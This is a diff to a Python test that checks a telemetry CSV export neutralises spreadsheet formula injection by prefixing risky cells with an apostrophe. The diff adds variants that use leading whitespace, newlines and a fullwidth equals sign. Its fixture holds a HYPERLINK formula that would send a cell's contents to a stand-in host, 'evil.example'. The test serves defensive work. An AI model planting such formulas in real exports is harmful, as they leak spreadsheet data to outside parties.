@@ -232,7 +232,18 @@ def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
     monkeypatch.setenv("AGENTWORKER_HOME", str(tmp_path))
     state = State(tmp_path / "state.db")
     formula = '=HYPERLINK("https://evil.example/?d="&A2,"details")'
-    plans = [formula, "+1", "-2", "@SUM(A1)", "\tx", "plain"]
+    plans = [
+        formula,
+        "+1",
+        "-2",
+        "@SUM(A1)",
+        "\tx",
+        " =1+1",
+        "\n\r@A1",
+        "\uff1d1",
+        " plain",
+        "plain",
+    ]
     Telemetry(state.connection).record_many(
         [
             pb.Invocation(
@@ -247,7 +258,7 @@ def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
     assert main(["telemetry", "export", "--format", "csv", "-o", str(out)]) == 0
     with out.open(newline="") as f:
         shown = [row["plan_id"] for row in csv.DictReader(f)]
-    assert shown == ["'" + plan for plan in plans[:-1]] + ["plain"]
+    assert shown == ["'" + plan for plan in plans[:-2]] + [" plain", "plain"]
 
 
 def test_the_human_listing_has_one_line_per_row(
